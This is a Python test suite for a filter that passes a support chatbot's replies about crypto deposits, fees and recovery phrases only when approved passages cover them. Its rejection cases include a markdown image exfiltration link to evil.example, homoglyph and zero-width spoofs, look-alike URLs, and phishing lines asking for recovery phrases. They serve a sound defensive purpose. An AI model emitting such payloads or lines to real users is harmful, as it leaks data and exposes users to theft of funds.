"""What a language model says is sent only where an approved passage says it."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fairlead.bot.cover import complete, covered, sentences
from fairlead.bot.ports import Source

FEES = Source(
    "Deposits",
    "Deposits of USDT on TRC20 are credited after 20 confirmations. If the deposit is not credited after 2 hours, open Assets and "
    "send us the transaction ID. Never share your recovery phrase with anyone. The fee is 1 USDT on TRC20 and 5 USDT on ERC20. "
    "Move coins from your spot wallet to your funding wallet. See https://northlight.example/fees.",
)
CHINESE = Source(
    "充值",
    "USDT 充值需要 20 个确认。如果两小时后仍未到账，请打开“资产”并提交交易哈希。请勿把助记词告诉任何人。先卖出再提现。",
)
SPANISH = Source("Retiros", "Los retiros a TRC20 tardan 30 minutos. Nunca comparta su frase de recuperación con nadie.")
JAPANESE = Source("入金", "入金は20回の承認後に反映されます。復元フレーズを誰にも教えないでください。")
ARABIC = Source("الإيداع", "يظهر الإيداع بعد 20 تأكيدا. لا تشارك عبارة الاسترداد مع أحد.")
ALL = (FEES, CHINESE, SPANISH, JAPANESE, ARABIC)


@pytest.mark.parametrize(
    ("sentence", "locale"),
    [
        ("Deposits of USDT on TRC20 are credited after 20 confirmations.", "en"),
        ("Your deposits on TRC20 are credited after 20 confirmations!", "en"),
        ("If it is not credited after 2 hours, please open Assets and send us the transaction ID.", "en"),
        ("The fee is 1 USDT on TRC20 and 5 USDT on ERC20.", "en"),
        ("- See https://northlight.example/fees.", "en"),
        ("充值需要 20 个确认。", "zh-CN"),
        ("充值需要 20 個確認。", "zh-CN"),
        ("如果两小时后仍未到账，请提交交易哈希。", "zh-CN"),
        ("Los retiros a TRC20 tardan 30 minutos.", "es"),
        ("入金は20回の承認後に反映されます。", "ja"),
        ("لا تشارك عبارة الاسترداد مع أحد.", "ar"),
    ],
)
def test_what_a_passage_says_is_covered_also_when_it_is_shortened(sentence: str, locale: str):
    assert covered(sentence, ALL, locale)


@pytest.mark.parametrize(
    ("sentence", "locale"),
    [
        ("Deposits of USDT on TRC20 are credited after 12 confirmations.", "en"),
        ("Deposits of USDC on TRC20 are credited after 20 confirmations.", "en"),
        ("Deposits of USDT on TRC20 are not credited after 20 confirmations.", "en"),
        ("Share your recovery phrase with anyone.", "en"),
        ("Open Assets and send us the transaction ID.", "en"),
        ("The fee is 5 USDT on TRC20 and 1 USDT on ERC20.", "en"),
        ("The fee is 5 USDT on TRC20.", "en"),
        ("Move coins from your funding wallet to your spot wallet.", "en"),
        ("Send us your recovery phrase.", "en"),
        ("I am sorry to hear that.", "en"),
        ("See https://northlight.example.evil.example/fees.", "en"),
        ("See https://northlight.example/fees/../evil.", "en"),
        ("See [fees](https://northlight.example/fees).", "en"),
        ("![x](https://evil.example/?q=secret)", "en"),
        ("<b>Never share your recovery phrase with anyone.</b>", "en"),
        ("Never share your\u200b recovery phrase with anyone.", "en"),
        ("N\u0435ver share your recovery phrase with anyone.", "en"),
        ("Deposits are credited by admin@evil.example.", "en"),
        ("充值需要 10 个确认。", "zh-CN"),
        ("请把助记词告诉任何人。", "zh-CN"),
        ("打开“资产”并提交交易哈希。", "zh-CN"),
        ("先买出再提现。", "zh-CN"),
        ("Comparta su frase de recuperación con nadie.", "es"),
        ("Los retiros a TRC20 tardan 3 minutos.", "es"),
        ("復元フレーズを誰にも教えてください。", "ja"),
        ("入金は2回の承認後に反映されます。", "ja"),
        ("شارك عبارة الاسترداد مع أحد.", "ar"),
        ("...", "en"),
        ("NONE", "en"),
    ],
)
def test_what_no_passage_says_is_not_covered(sentence: str, locale: str):
    assert not covered(sentence, ALL, locale)


@settings(deadline=None, max_examples=150)
@given(st.data())
def test_no_number_word_or_negation_can_be_put_in_changed_or_left_out_unseen(data: st.DataObject):
    """Every sentence is covered as it stands; with another number, a negation more or less, or a foreign word it is not."""
    one = data.draw(st.sampled_from([piece for piece in sentences(FEES.text) if "http" not in piece]))
    assert covered(one, [FEES], "en")
    words = one.split()
    at = data.draw(st.integers(0, len(words)))
    kind = data.draw(st.sampled_from(["word", "not", "number", "coin", "changed"]))
    if kind == "changed":
        if not (numbers := list(re.finditer(r"(?<![A-Z])\b\d+\b", one))):
            return
        number = data.draw(st.sampled_from(numbers))
        twisted = one[: number.start()] + str(int(number[0]) + data.draw(st.integers(6, 10**6))) + one[number.end() :]
    else:
        foreign = {
            "word": ["guaranteed", "Telegram", "refund", "免费"],
            "not": ["not", "never"],
            "number": ["7", "99%"],
        }
        put = data.draw(st.sampled_from(foreign.get(kind, ["BTC", "ETH"])))
        twisted = " ".join([*words[:at], put, *words[at:]])
    assert not covered(twisted, [FEES], "en")


@given(st.text(max_size=200))
@settings(deadline=None, max_examples=100)
def test_any_text_is_read_without_an_error_and_its_sentences_are_all_of_it(text: str):
    assert isinstance(covered(text, [FEES], "en"), bool)
    assert "".join("".join(sentences(text)).split()) in "".join(text.split())
    ended, rest = complete(text)
    assert "".join("".join([*ended, rest]).split()) in (
        "".join(text.split()),
        "".join("".join(sentences(text)).split()),
    )


def test_a_sentence_is_whole_only_when_something_follows_it():
    assert complete("It costs 0.") == ([], "It costs 0.")
    assert complete("It costs 0.5 BTC. Then") == (["It costs 0.5 BTC."], " Then")
    assert complete("需要 20 个确认。请") == (["需要 20 个确认。"], "请")
